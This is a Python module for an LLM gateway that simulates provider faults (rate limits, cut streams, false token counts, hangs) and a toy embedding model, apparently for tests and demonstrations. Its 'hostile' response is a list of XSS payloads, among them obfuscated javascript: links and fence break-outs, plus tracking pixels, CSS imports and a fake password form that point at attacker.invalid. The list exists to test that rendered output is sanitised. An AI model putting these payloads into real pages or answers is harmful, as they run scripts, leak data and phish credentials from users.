"""Models that are none: each name is one way in which a provider behaves, well or badly.

They need no network and no key, so tests and demonstrations see every fault on demand. Always the
same answer for the same question; the pace is the event loop's. One piece is one token.

    steady             a plain answer
    slow-first-token   silence, then the plain answer
    reasoning          thinks first, in the open
    cut-mid-stream     stops half-way, with neither an end nor usage
    rate-limited       refuses each request with 429 and Retry-After
    lying-usage        reports token counts that cannot be
    empty              a success with nothing in it
    keep-alive         takes the request, then never says a word
    hostile            an answer made to run scripts and load images in whatever shows it
    embedding          no answer but vectors, made of words: texts that share words lie near each other
"""

from __future__ import annotations

import asyncio
import hashlib
import math
import re
import struct
import time
from array import array
from collections.abc import AsyncGenerator, Callable
from dataclasses import dataclass, replace

from gateway.errors import ProviderRefused
from gateway.messages import Event, Finished, ReasoningDelta, TextDelta, Usage
from gateway.providers.base import Call, Embedded, EmbeddingCall, EmbeddingInput, Vector

_FOREVER_S = 24 * 3600.0

_ANSWER = """\
This answer is simulated: no model wrote it, and nothing was sent anywhere.

It is here so that the rest can be tried out. The words arrive at a steady pace, as they would \
from a real provider:

1. the prompt is bounded and its worst case is held,
2. the answer streams, and can be stopped at any word,
3. the hold is settled for what really came.

```python
def credits_left(balance: int, cost: int) -> int:
    return balance - cost
```

Ask again, and every word will be the same."""

_THOUGHTS = (
    "The question is read once more. Nothing about it is hard, yet a model that reasons takes its time. "
    "First the facts, then the order in which to tell them. That will do."
)

# Each line is an attack that a page must survive: no script may run, no other origin may be asked.
_HOSTILE = """\
<script>window.__tiltyard_pwned = 'script'</script>

<img src="https://attacker.invalid/pixel.png" onerror="window.__tiltyard_pwned = 'onerror'">

![tracking](https://attacker.invalid/zero-click.png?leak=secret)

![by reference][pixel]

[a link that is a script](javascript:window.__tiltyard_pwned='link')

[the same in disguise](&#106;ava&#115;cript:window.__tiltyard_pwned='entity')

[and with a tab](java&#9;script:window.__tiltyard_pwned='tab')

[a page of its own](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX190aWx0eWFyZF9wd25lZD0nZGF0YSc8L3NjcmlwdD4=)

<svg onload="window.__tiltyard_pwned = 'svg'"><a xlink:href="javascript:alert(1)">x</a></svg>

<iframe srcdoc="<script>parent.__tiltyard_pwned = 'iframe'</script>"></iframe>

<details open ontoggle="window.__tiltyard_pwned = 'toggle'"><summary>open</summary></details>

<style>@import url('https://attacker.invalid/a.css'); p { background: url(//attacker.invalid/b) }</style>

<form action="https://attacker.invalid/"><input name="password"><button>Sign in again</button></form>

&lt;script&gt;window.__tiltyard_pwned = 'escaped'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;

```html"><script>window.__tiltyard_pwned = 'fence'</script>
</code></pre><script>window.__tiltyard_pwned = 'break-out'</script>
```

| <img src=x onerror="window.__tiltyard_pwned='cell'"> | [x](vbscript:msgbox) |
|---|---|
| https://attacker.invalid/autolink.png | <https://attacker.invalid/angle.png> |

$\\href{javascript:window.__tiltyard_pwned='math'}{x}$

[pixel]: https://attacker.invalid/by-reference.png
The end."""


@dataclass(frozen=True, slots=True)
class Pace:
    """How fast a simulated model is; a rate of 0 is as fast as the loop goes."""

    first_token_s: float = 0.25
    slow_first_token_s: float = 4.0
    tokens_per_s: float = 60.0
    retry_after_s: float = 2.0


class Simulated:
    id = "simulated"

    def __init__(self, pace: Pace | None = None) -> None:
        self._pace = pace or Pace()

    def stream(self, call: Call) -> AsyncGenerator[Event, None]:
        behaviour = _BEHAVIOURS.get(call.model)
        if behaviour is None:
            raise ProviderRefused(self.id, f"There is no simulated model {call.model!r}.", status=404)
        call.clocks.sent_ns = time.monotonic_ns()
        return behaviour(call, self._pace)

    async def embed(self, call: EmbeddingCall) -> Embedded:
        if call.model != EMBEDDING:
            raise ProviderRefused(self.id, f"There is no simulated model {call.model!r}.", status=404)
        call.clocks.sent_ns = time.monotonic_ns()
        await asyncio.sleep(self._pace.first_token_s)
        call.clocks.first_byte_ns = time.monotonic_ns()
        words = [_words(given) for given in call.inputs]
        dimensions = min(call.dimensions or VECTOR_DIMENSIONS, VECTOR_DIMENSIONS)
        vectors = tuple(_vector(each, dimensions) for each in words)
        return Embedded(vectors, Usage(input=max(1, sum(map(len, words))), output=0))

    async def close(self) -> None:
        """Nothing is kept open."""


# --- the behaviours ---------------------------------------------------------------------------------

_Events = AsyncGenerator[Event, None]


def _steady(call: Call, pace: Pace) -> _Events:
    return _answer(call, pace, _ANSWER)


def _slow_first_token(call: Call, pace: Pace) -> _Events:
    return _answer(call, replace(pace, first_token_s=pace.slow_first_token_s), _ANSWER)


def _reasoning(call: Call, pace: Pace) -> _Events:
    return _answer(call, pace, _ANSWER, thoughts=_THOUGHTS)


def _cut_mid_stream(call: Call, pace: Pace) -> _Events:
    return _answer(call, pace, _ANSWER, cut=True)


def _lying_usage(call: Call, pace: Pace) -> _Events:
    return _answer(call, pace, _ANSWER, lie=Usage(input=-5, output=10**12))


def _hostile(call: Call, pace: Pace) -> _Events:
    return _answer(call, pace, _HOSTILE)


async def _rate_limited(call: Call, pace: Pace) -> _Events:
    await asyncio.sleep(pace.first_token_s)
    message = "The provider is over its rate limit (status 429)."
    raise ProviderRefused(Simulated.id, message, status=429, retry_after_s=pace.retry_after_s)
    yield  # makes this a generator like the others


async def _empty(call: Call, pace: Pace) -> _Events:
    await asyncio.sleep(pace.first_token_s)
    call.clocks.first_byte_ns = time.monotonic_ns()
    return
    yield


async def _keep_alive(call: Call, pace: Pace) -> _Events:
    call.clocks.first_byte_ns = time.monotonic_ns()
    await asyncio.sleep(_FOREVER_S)
    return
    yield


_BEHAVIOURS: dict[str, Callable[[Call, Pace], _Events]] = {
    "steady": _steady,
    "slow-first-token": _slow_first_token,
    "reasoning": _reasoning,
    "cut-mid-stream": _cut_mid_stream,
    "rate-limited": _rate_limited,
    "lying-usage": _lying_usage,
    "empty": _empty,
    "keep-alive": _keep_alive,
    "hostile": _hostile,
}

EMBEDDING = "embedding"
VECTOR_DIMENSIONS = 256
SIMULATED_MODELS = (*_BEHAVIOURS, EMBEDDING)


# --- an answer in pieces ----------------------------------------------------------------------------


async def _answer(
    call: Call, pace: Pace, text: str, *, thoughts: str = "", cut: bool = False, lie: Usage | None = None
) -> _Events:
    """Thoughts, then text, a piece a token, within the call's cap; then the end and what it cost.

    `cut` leaves half-way without either; `lie` is told in place of the true usage.
    """
    thinking, speaking = _pieces(thoughts), _pieces(text)
    pieces = (thinking + speaking)[: call.out_cap]
    if cut:
        pieces = pieces[: len(pieces) // 2]
    due_s = time.monotonic() + pace.first_token_s
    for at, piece in enumerate(pieces):
        await asyncio.sleep(max(0.0, due_s - time.monotonic()))
        if call.clocks.first_byte_ns is None:
            call.clocks.first_byte_ns = time.monotonic_ns()
        call.clocks.read(len(piece))
        yield ReasoningDelta(piece) if at < len(thinking) else TextDelta(piece)
        due_s += 1 / pace.tokens_per_s if pace.tokens_per_s else 0.0
    if cut:
        return
    yield Finished("stop" if len(pieces) == len(thinking) + len(speaking) else "length")
    asked = sum(len(_pieces(message.text)) for message in call.request.messages)
    told = Usage(input=max(1, asked), output=len(pieces), reasoning=min(len(pieces), len(thinking)))
    yield lie or told


def _pieces(text: str) -> list[str]:
    """Words with the space before them, so that joined they are the text again."""
    return re.findall(r"\s*\S+|\s+$", text)


# --- a vector of a text -----------------------------------------------------------------------------


def _words(given: EmbeddingInput) -> list[str]:
    return re.findall(r"\w+", given.lower()) if isinstance(given, str) else [str(token) for token in given]


def _vector(words: list[str], dimensions: int) -> Vector:
    """The sum of a fixed direction a word, of length 1; the first axis where there is no word."""
    sums = [0.0] * dimensions
    for word in words:
        noise = hashlib.shake_128(word.encode()).digest(2 * dimensions)
        for at, (number,) in enumerate(struct.iter_unpack("<h", noise)):
            sums[at] += number
    length = math.sqrt(sum(number * number for number in sums))
    if not length:
        return array("f", [1.0] + [0.0] * (dimensions - 1))
    return array("f", (number / length for number in sums))
